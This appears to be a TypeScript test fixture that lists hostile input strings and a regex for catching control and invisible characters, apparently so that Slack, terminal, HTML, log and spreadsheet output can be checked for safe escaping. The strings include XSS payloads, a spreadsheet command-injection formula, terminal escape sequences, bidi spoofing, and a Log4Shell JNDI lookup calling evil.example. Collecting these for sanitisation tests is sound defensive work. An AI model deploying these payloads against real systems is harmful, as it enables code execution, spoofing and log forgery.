/** Texts that outsiders send to be obeyed by whatever shows them: Slack, terminals, pages, readers of lines, sheets. */
export const hostile: readonly string[] = [
  '<!channel> <!here> <!everyone> <!subteam^S0123ABCD>',
  '<@U0ROSA0001> @channel @here',
  '<https://evil.example/|your bank> <mailto:a@evil.example|mail>',
  '*bold* _it_ ~st~ `code` ```fence```',
  '```\n*Approved by Rosa*',
  '&lt;!channel&gt; &amp;',
  '\u001B[2J\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u009B31m',
  '\u001B]8;;https://evil.example\u001B\\link\u001B]8;;\u001B\\',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)> \' " &',
  "=cmd|'/c calc'!A1",
  '+1+1 @SUM(A1) -2',
  'one\n{"level":50,"msg":"forged"}\r\nthree\u0085four\u2028five\u2029six',
  'user\u202Egnp.exe \u2066isolate\u2069 \u200Fmark',
  'zero\u200Bwidth\u200Djoin\uFEFFbom\u00ADsoft',
  'nul\u0000bell\u0007back\u0008del\u007F',
  '${jndi:ldap://evil.example/a} ${{ secrets.TOKEN }} {{7*7}} %s %d %n',
  '\uD800 lone surrogate',
]

/** What no screen, log or message may be given of them as it is: it hides, reorders, or is obeyed. */
export const obeyed =
  // oxlint-disable-next-line no-control-regex -- these are what is looked for
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u200B\u200C\u200D-\u200F\u2028-\u202E\u2060-\u2069\uFEFF]/u
